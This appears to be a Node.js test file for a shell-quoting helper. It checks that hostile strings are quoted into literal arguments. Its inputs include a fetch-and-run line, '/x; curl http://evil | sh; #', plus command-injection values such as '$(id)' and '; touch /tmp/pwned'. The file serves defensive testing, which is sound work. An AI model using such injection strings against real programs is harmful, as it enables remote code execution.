import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { test } from 'node:test';
import { shellCommand, shellQuote } from './shell-quote.js';

test('safe words stay bare and everything else is single-quoted', () => {
  assert.equal(shellQuote('/var/lib/siteport-agent'), '/var/lib/siteport-agent');
  assert.equal(shellQuote('SMSMP=mp.example.com'), 'SMSMP=mp.example.com');
  assert.equal(shellQuote(''), `''`);
  assert.equal(shellQuote('/x; curl http://evil | sh; #'), `'/x; curl http://evil | sh; #'`);
  assert.equal(shellQuote(`it's`), `'it'\\''s'`);
});

test('a quoted command hands every hostile word to the program as one literal argument', () => {
  const hostile = [
    '/x; touch /tmp/pwned; #',
    `$(id)`,
    '`id`',
    `a'b"c`,
    'line\nbreak',
    '-- --help',
    '*',
    '~root',
    '\x1b[2J',
  ];
  const printed = shellCommand('printf', '%s\\0', ...hostile);
  const out = execFileSync('/bin/sh', ['-c', printed], { encoding: 'utf8' });
  assert.deepEqual(out.split('\0').slice(0, -1), hostile);
});
